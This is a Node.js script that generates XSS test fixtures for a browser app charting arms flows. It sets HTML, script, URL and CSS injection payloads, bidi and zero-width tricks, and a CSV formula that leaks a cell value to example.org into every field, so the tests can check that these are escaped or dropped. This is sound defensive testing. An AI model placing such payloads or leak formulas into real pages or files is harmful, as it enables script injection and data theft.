// Writes the hostile-text fixtures the browser tests load with ?data= (issue 22):
//   tests/fixtures/hostile.json        a valid dataset (format version 2, no problems) in which
//                                      every text field and every id is an HTML, script, URL or
//                                      CSS payload, with bidirectional overrides, zero-width
//                                      characters and one 10,000-character string
//   tests/fixtures/hostile-links.json  the same, with source links that are not http(s)
//                                      (javascript:, data:, vbscript:, mixed case, space- and
//                                      tab-prefixed), dropped with a problem each, and a unit
//                                      the map has no words for (a warning)
// Every payload, if it ever ran, sets window.__pwned (to the name of its field) or opens an
// alert. Run: node scripts/hostile.mjs   (deterministic: the same files each time;
// --check only compares them with the committed ones)
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const OUT = path.join(ROOT, 'tests/fixtures');

/** The payloads, each tagged with the field it is in (`tag`), so a run says which one ran. */
const PAYLOADS = [
  (tag) => `<img src=x onerror="window.__pwned='${tag}'">`,
  (tag) => `<script>window.__pwned='${tag}'</script>`,
  (tag) => `"><svg onload="window.__pwned='${tag}'">`,
  (tag) => `'><svg/onload=alert('${tag}')>`,
  (tag) => `</title><script>window.__pwned='${tag}'</script>`,
  (tag) => `</text><script>window.__pwned='${tag}'</script><text>`,
  (tag) => `javascript:window.__pwned='${tag}'`,
  (tag) => `<a href="JaVaScRiPt:alert('${tag}')">link</a>`,
  (tag) => `<style>*{background:url("javascript:alert('${tag}')")}</style>`,
  (tag) => `x{color:red}</style><style>@import 'data:,*%7bx:expression(alert("${tag}"))%7d';`,
  (tag) => `]]><![CDATA[<script>window.__pwned='${tag}'</script>]]>`,
  (tag) => `&lt;script&gt;window.__pwned='${tag}'&lt;/script&gt; &amp; &quot;`,
  (tag) => `\u202Egnp.${tag}\u202C <iframe src="javascript:alert('${tag}')"></iframe>`,
  (tag) => `zero\u200Bwidth\u200D\uFEFF<math><mi xlink:href="javascript:alert('${tag}')">x</mi></math>`,
  (tag) => `{{constructor.constructor('window.__pwned="${tag}"')()}} \${alert('${tag}')}`,
  (tag) => `<svg><animate onbegin="window.__pwned='${tag}'" attributeName=x dur=1s>`,
  (tag) => `<details open ontoggle="window.__pwned='${tag}'">`,
  // Characters XML 1.0 forbids (a C0 control, a noncharacter): the SVG download must still parse.
  (tag) => `ctrl\u0001\u0007\u000B\u001F\uFFFE<img src=x onerror="window.__pwned='${tag}'">`,
  (tag) => `<object data="data:text/html,<script>parent.__pwned='${tag}'</script>"></object>`,
];

let next = 0;
/** A hostile text for field `tag`: a readable name (for the tests to find it) and a payload,
 * the next one in turn. */
function text(tag) {
  const payload = PAYLOADS[next++ % PAYLOADS.length](tag);
  return `${tag} ${payload}`;
}

/** A hostile text per interface language. */
function localized(tag) {
  return Object.fromEntries(['en', 'ru', 'uk', 'sr-Latn', 'sr-Cyrl'].map((l) => [l, text(`${tag}[${l}]`)]));
}

/** A word of 3,000 characters without a space (a pasted data: URI): it must wrap, not widen
 * the page. */
const WORD = `data:image/svg+xml;base64,${'PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'.repeat(120)}`.slice(0, 3000);

/** One very long hostile string (10,000 characters). */
function long(tag) {
  const unit = `<img src=x onerror="window.__pwned='${tag}'"> `;
  let s = `${tag} `;
  while (s.length < 10000) s += unit;
  return s.slice(0, 10000);
}

// Ids travel into the URL hash, CSS selectors and attributes: quotes, brackets, backslashes,
// the hash's own separators (& = , #), percent signs, spaces and a right-to-left override.
const FLOW_IDS = [
  `f1"]<img src=x onerror="window.__pwned='flow-id-1'">`,
  `f2'][data-x="y"] \\"\\'`,
  `f3#flow=evil&cat=-a,b%22%3Cscript%3E`,
  `f4</script><script>window.__pwned='flow-id-4'</script>`,
  `f5 \u202Eevil\u202C \u200B{}();:`,
  `f6"><svg onload=alert('flow-id-6')>`,
];
const CAT = [`arms"><svg onload="window.__pwned='cat-id'">`, `dual'use</style><script>alert('cat-id')</script>`];
const POINT = `"><img src=x onerror="window.__pwned='location-id'">`;

function dataset() {
  next = 0;
  const locations = [
    { id: 'SRB', name: localized('location-SRB-name'), point: [20.46, 44.82] },
    { id: 'CZE', name: localized('location-CZE-name'), point: [14.42, 50.09] },
    { id: 'UKR', name: localized('location-UKR-name'), point: [30.52, 50.45] },
    { id: 'RUS', name: localized('location-RUS-name'), point: [37.62, 55.75] },
    { id: 'BGR', name: text('location-BGR-name'), point: [23.32, 42.7] },
    // Not a country: any id goes with a point.
    { id: POINT, name: localized('location-point-name'), point: [19.04, 47.5] },
  ];
  const categories = CAT.map((id, i) => ({ id, name: localized(`category-${i}-name`) }));
  const sources = [
    { id: `src"1<script>alert('source-id')</script>`, outlet: text('source-1-outlet'), title: text('source-1-title'), date: '2023-11-09',
      url: `https://example.org/a"><script>window.__pwned='source-1-url'</script>`, kind: 'customs-records' },
    { id: `src'2"><img src=x onerror=alert('source-id')>`, outlet: localized('source-2-outlet'), title: text('source-2-title'),
      url: ` HTTPS://example.org/?q=<img src=x onerror="window.__pwned='source-2-url'">&x="y"`, kind: 'intelligence-claim' },
    { id: 'src3 \u202Eevil', outlet: text('source-3-outlet'), date: '2024-02',
      url: `hTtP://example.org/#javascript:alert('source-3-url')`, kind: 'news-report' },
    { id: 'src4', outlet: text('source-4-outlet'), title: text('source-4-title'), kind: 'analysis' },
  ];
  const speakers = [
    { id: `sp1"><svg onload=alert('speaker-id')>`, name: localized('speaker-1-name'), kind: 'records' },
    { id: `sp2'</script>`, name: text('speaker-2-name'), kind: 'intelligence', stake: localized('speaker-2-stake') },
    { id: 'sp3', name: text('speaker-3-name'), kind: 'government', stake: text('speaker-3-stake'), plural: true },
    { id: 'sp4', name: localized('speaker-4-name'), kind: 'news-outlet' },
    { id: 'sp5', name: text('speaker-5-name'), kind: 'analyst' },
  ];
  const [s1, s2, s3, s4] = sources.map((s) => s.id);
  const [p1, p2, p3, p4, p5] = speakers.map((s) => s.id);
  const cite = (source, speaker, stance, tag) => ({ source, speaker, stance, quote: text(tag) });
  const flows = [
    {
      id: FLOW_IDS[0], from: 'SRB', to: 'RUS', category: CAT[1],
      value: { amount: 143900000, currency: 'USD', parts: [{ amount: 54300000, what: localized('flow-1-part-what') }] },
      period: { start: '2022-03', end: '2023-07' },
      actors: { from: [text('flow-1-actor-from'), localized('flow-1-actor-from-2')], to: [text('flow-1-actor-to')] },
      description: localized('flow-1-description'), status: 'documented',
      citations: [cite(s1, p1, 'finds', 'flow-1-quote')], note: localized('flow-1-note'),
    },
    {
      id: FLOW_IDS[1], from: 'SRB', to: 'UKR', via: ['CZE'], category: CAT[0], value: 'undisclosed',
      actors: { from: [text('flow-2-actor-from')], via: [text('flow-2-actor-via')], to: [localized('flow-2-actor-to')] },
      description: text('flow-2-description'), status: 'alleged',
      citations: [cite(s2, p2, 'claims', 'flow-2-quote'), cite(s3, p3, 'disputes', 'flow-2-quote-against')],
      note: text('flow-2-note'),
    },
    {
      id: FLOW_IDS[2], from: 'SRB', to: 'UKR', via: [POINT, 'BGR'], category: CAT[0],
      value: { amount: 1200, unit: 'shells', basis: 'estimate' },
      period: { start: '2023' },
      description: localized('flow-3-description'), status: 'reported',
      citations: [cite(s3, p4, 'estimates', 'flow-3-quote')],
    },
    {
      id: FLOW_IDS[3], from: 'CZE', to: 'UKR', category: CAT[0], value: { amount: 800000000, currency: 'EUR', basis: 'minimum' },
      description: text('flow-4-description'), status: 'unverified',
      // The 10,000-character string.
      citations: [{ source: s4, speaker: p5, stance: 'claims', quote: long('flow-4-long-quote') }],
      note: long('flow-4-long-note'),
    },
    {
      id: FLOW_IDS[4], from: 'RUS', to: 'SRB', category: CAT[1], value: 'undisclosed',
      // A spreadsheet formula: the CSV download must not hand it over live.
      description: { ...localized('flow-5-description'), en: `=HYPERLINK("https://example.org/?leak="&A1,"flow-5-description")` },
      status: 'denied',
      citations: [cite(s2, p2, 'claims', 'flow-5-quote'), cite(s3, p3, 'denies', 'flow-5-quote-denial')],
    },
    {
      id: FLOW_IDS[5], from: 'BGR', to: POINT, category: CAT[1], value: { amount: 5, unit: 'units' },
      period: { start: '2024-01', end: '2024-06' },
      description: text('flow-6-description'), status: 'reported',
      citations: [cite(s3, p4, 'claims', 'flow-6-quote')], note: `${text('flow-6-note')} ${WORD}`,
    },
  ];
  return {
    $schema: 'flows.schema.json',
    version: 2,
    meta: {
      // Every character an attribute of the embed code must escape: & " < > and a reference.
      title: { ...localized('meta-title'), en: `meta-title[en] "><svg onload="window.__pwned='meta-title'"> &amp; &quot; & <script>alert('meta-title')</script>` },
      subtitle: localized('meta-subtitle'),
      notes: localized('meta-notes'),
      credit: `${text('meta-credit')} ${WORD}`,
      language: 'en',
    },
    locations,
    categories,
    sources,
    speakers,
    flows,
    events: [
      { date: '2023-06', label: localized('event-1-label'), sources: [s2] },
      { date: '2024-03-15', label: text('event-2-label'), sources: [s1, s3] },
    ],
  };
}

/** Source links that are not http(s): each must be dropped, never made clickable. */
const BAD_LINKS = [
  "javascript:window.__pwned='link-1'",
  "JaVaScRiPt:alert('link-2')",
  " javascript:window.__pwned='link-3'",
  "\tjava\tscript:window.__pwned='link-4'",
  "data:text/html,<script>window.__pwned='link-5'</script>",
  "vbscript:msgbox('link-6')",
];

function withBadLinks() {
  const d = dataset();
  d.meta.title = { en: `hostile links ${d.meta.title.en}` };
  d.sources.forEach((s, i) => { s.url = BAD_LINKS[i % BAD_LINKS.length]; });
  // A unit the map has no words for is shown as written (with a warning in the problems list).
  d.flows[2].value.unit = `shells"><img src=x onerror="window.__pwned='unit'">`;
  d.sources.push(
    { id: 'src5', outlet: text('source-5-outlet'), url: BAD_LINKS[4], kind: 'dataset' },
    { id: 'src6', outlet: text('source-6-outlet'), url: BAD_LINKS[5], kind: 'dataset' },
  );
  return d;
}

// With --check, nothing is written: exits 1 if a committed fixture differs from what this
// script writes (the browser tests run it so).
const check = process.argv.includes('--check');
let stale = 0;
const write = (name, value) => {
  const file = path.join(OUT, name);
  const text = `${JSON.stringify(value, null, 1)}\n`;
  if (check) {
    const same = fs.existsSync(file) && fs.readFileSync(file, 'utf8') === text;
    if (!same) { stale++; console.error(`tests/fixtures/${name} is not what scripts/hostile.mjs writes: run node scripts/hostile.mjs`); }
    return;
  }
  fs.writeFileSync(file, text);
  console.log(`wrote tests/fixtures/${name}`);
};
write('hostile.json', dataset());
write('hostile-links.json', withBadLinks());
process.exitCode = stale ? 1 : 0;
